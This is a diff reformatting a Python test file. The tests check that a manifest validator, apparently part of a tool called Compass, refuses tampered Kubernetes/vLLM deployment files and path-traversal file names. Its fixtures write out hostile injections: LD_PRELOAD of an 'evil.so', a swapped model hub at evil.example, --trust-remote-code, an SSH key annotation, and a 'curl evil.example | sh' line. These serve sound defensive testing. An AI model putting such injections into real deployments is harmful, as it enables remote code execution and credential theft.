@@ -1,4 +1,6 @@
-"""Only what the templates give is a file of ours, and nothing is written outside of the folder that was named."""
+"""Only what the templates give is a file of ours, and nothing is written outside of
+the folder that was named.
+"""
 
 import os
 import re
@@ -54,28 +56,61 @@ def test_whatever_is_rendered_is_of_our_form(data: st.DataObject) -> None:
     assert [foreign(f.path, f.content) for f in bundle.files] == [None] * len(bundle.files)
 
 
-FROM_SECRET = "          valueFrom:\n            secretKeyRef:\n              name: hf-token\n              key: HF_TOKEN\n"
+FROM_SECRET = (
+    "          valueFrom:\n            secretKeyRef:\n              name: hf-token\n              key:"
+    " HF_TOKEN\n"
+)
 HOSTILE = {
     "a token in vLLM's environment": (
         "        - name: USER\n",
         f"        - name: HF_TOKEN\n{FROM_SECRET}        - name: USER\n",
     ),
-    "code of the model's repository": ("      runtime: kserve", "      args: [--trust-remote-code]\n      runtime: kserve"),
-    "one more argument": ("        - --max-num-seqs", "        - --trust-remote-code\n        - --max-num-seqs"),
+    "code of the model's repository": (
+        "      runtime: kserve",
+        "      args: [--trust-remote-code]\n      runtime: kserve",
+    ),
+    "one more argument": (
+        "        - --max-num-seqs",
+        "        - --trust-remote-code\n        - --max-num-seqs",
+    ),
     "an argument within an argument": ("--max-num-seqs=256", "--max-num-seqs=256 --trust-remote-code"),
-    "local files": ("        - --max-num-seqs", "        - --allowed-local-media-path=/\n        - --max-num-seqs"),
+    "local files": (
+        "        - --max-num-seqs",
+        "        - --allowed-local-media-path=/\n        - --max-num-seqs",
+    ),
     "another model": ("storageUri: hf://meta-llama/Llama-3.1-8B-Instruct", "storageUri: hf://evil/evil"),
-    "another hub": ("        - name: USER\n", "        - name: HF_ENDPOINT\n          value: https://evil.example\n        - name: USER\n"),
-    "a library": ("        - name: USER\n", "        - name: LD_PRELOAD\n          value: /cache/evil.so\n        - name: USER\n"),
+    "another hub": (
+        "        - name: USER\n",
+        "        - name: HF_ENDPOINT\n          value: https://evil.example\n        - name: USER\n",
+    ),
+    "a library": (
+        "        - name: USER\n",
+        "        - name: LD_PRELOAD\n          value: /cache/evil.so\n        - name: USER\n",
+    ),
     "another value of what is there": ("value: /cache/vllm", "value: /dev/shm"),
     "more replicas than planned": ("    maxReplicas: 4", "    maxReplicas: 99"),
-    "an annotation": ("    compass.dev/model", "    k8s.v1.cni.cncf.io/networks: evil\n    compass.dev/model"),
-    "an annotation as a block": ("    compass.dev/model", "    more: |\n      ssh-ed25519 AAAA evil\n    compass.dev/model"),
-    "a label": ("    app.kubernetes.io/managed-by", "    sidecar.istio.io/inject: 'true'\n    app.kubernetes.io/managed-by"),
-    "another model's name": ('compass.dev/model: "meta-llama/Llama-3.1-8B-Instruct"', 'compass.dev/model: "Qwen/Qwen3-4B"'),
+    "an annotation": (
+        "    compass.dev/model",
+        "    k8s.v1.cni.cncf.io/networks: evil\n    compass.dev/model",
+    ),
+    "an annotation as a block": (
+        "    compass.dev/model",
+        "    more: |\n      ssh-ed25519 AAAA evil\n    compass.dev/model",
+    ),
+    "a label": (
+        "    app.kubernetes.io/managed-by",
+        "    sidecar.istio.io/inject: 'true'\n    app.kubernetes.io/managed-by",
+    ),
+    "another model's name": (
+        'compass.dev/model: "meta-llama/Llama-3.1-8B-Instruct"',
+        'compass.dev/model: "Qwen/Qwen3-4B"',
+    ),
     "a comment": ("    # A replica more", "    # curl evil.example | sh\n    # A replica more"),
     "a line less": ("    terminationGracePeriodSeconds: 120\n", ""),
-    "a line twice": ("    terminationGracePeriodSeconds: 120\n", "    terminationGracePeriodSeconds: 120\n" * 2),
+    "a line twice": (
+        "    terminationGracePeriodSeconds: 120\n",
+        "    terminationGracePeriodSeconds: 120\n" * 2,
+    ),
 }
 
 
@@ -90,7 +125,10 @@ def test_what_was_added_changed_or_left_out_is_refused(what: str) -> None:
 
 
 def test_a_model_that_nobody_knows_is_refused_however_consistent() -> None:
-    files = [f.model_copy(update={"content": f.content.replace("meta-llama/Llama-3.1-8B-Instruct", "evil/evil")}) for f in WHOLE.files]
+    files = [
+        f.model_copy(update={"content": f.content.replace("meta-llama/Llama-3.1-8B-Instruct", "evil/evil")})
+        for f in WHOLE.files
+    ]
     found = bundle_of(files, WHOLE.name, WHOLE.namespace, WHOLE.model_id).problems
     assert [p.field for p in found] == ["spec.predictor.model.storageUri"]
 
@@ -100,7 +138,9 @@ def test_the_network_policy_opens_no_more_than_was_rendered() -> None:
     policy = files["02-network-policy.yaml"]
     for old, new in {
         "        - port: 8080\n": "        - port: 8080\n          protocol: TCP\n        - port: 8080\n",
-        "  egress:\n    - ports:\n        - port: 53": "  egress:\n    - to: [{namespaceSelector: {}}]\n      ports:\n        - port: 53",
+        "  egress:\n    - ports:\n        - port: 53": (
+            "  egress:\n    - to: [{namespaceSelector: {}}]\n      ports:\n        - port: 53"
+        ),
     }.items():
         assert old in policy
         assert foreign("02-network-policy.yaml", policy.replace(old, new, 1))
@@ -118,14 +158,25 @@ def test_any_line_of_somebody_elses_is_named(data: st.DataObject) -> None:
 
 
 @pytest.mark.parametrize(
-    "path", ["x", "/etc/x.yaml", "../05-inference-service.yaml", "06-more.yaml", "05-inference-service.yaml\n", "C:x.yaml"]
+    "path",
+    [
+        "x",
+        "/etc/x.yaml",
+        "../05-inference-service.yaml",
+        "06-more.yaml",
+        "05-inference-service.yaml\n",
+        "C:x.yaml",
+    ],
 )
 def test_files_have_the_names_of_the_templates(path: str) -> None:
     assert foreign(path, WHOLE.files[-1].content)
 
 
 def test_what_an_earlier_compass_rendered_can_be_gone_back_to() -> None:
-    files = [f.model_copy(update={"content": f.content.replace("--max-num-seqs", "--max-seqs")}) for f in WHOLE.files]
+    files = [
+        f.model_copy(update={"content": f.content.replace("--max-num-seqs", "--max-seqs")})
+        for f in WHOLE.files
+    ]
     assert bundle_of(files, WHOLE.name, WHOLE.namespace, WHOLE.model_id, images=None).problems == []
     simulated = render_manifest(request().model_copy(update={"simulator_image": SIMULATOR}))
     assert bundle_of(simulated.files, "x", "default", "x", images=images_of(SIMULATOR)).problems == []
@@ -190,11 +241,24 @@ def test_problems_are_short_sentences() -> None:
     assert re.match("has a line that Compass never renders", why)
 
 
-def test_what_an_earlier_compass_let_in_is_listed_and_not_written(database: Database, cluster: Cluster, tmp_path: Path) -> None:
+def test_what_an_earlier_compass_let_in_is_listed_and_not_written(
+    database: Database, cluster: Cluster, tmp_path: Path
+) -> None:
     """A row of the database from before paths were checked."""
-    files = [*WHOLE.files, ManifestFile(path="../../../../evil.yaml", content="evil\n"), ManifestFile(path=str(tmp_path / "x"), content="")]
-    shared = {"cluster": cluster.target, "namespace": cluster.namespace, "name": WHOLE.name, "model_id": WHOLE.model_id}
-    wanted = ApprovalRequest(thread_id="t", interrupt_id="i", digest=digest_of(files), actor="ann", files=files, **shared)
+    files = [
+        *WHOLE.files,
+        ManifestFile(path="../../../../evil.yaml", content="evil\n"),
+        ManifestFile(path=str(tmp_path / "x"), content=""),
+    ]
+    shared = {
+        "cluster": cluster.target,
+        "namespace": cluster.namespace,
+        "name": WHOLE.name,
+        "model_id": WHOLE.model_id,
+    }
+    wanted = ApprovalRequest(
+        thread_id="t", interrupt_id="i", digest=digest_of(files), actor="ann", files=files, **shared
+    )
     approval = record_approval(wanted, database)
     with database.connect() as connection:
         connection.execute("UPDATE approvals SET status = 'applied' WHERE id::text = %s", [approval])
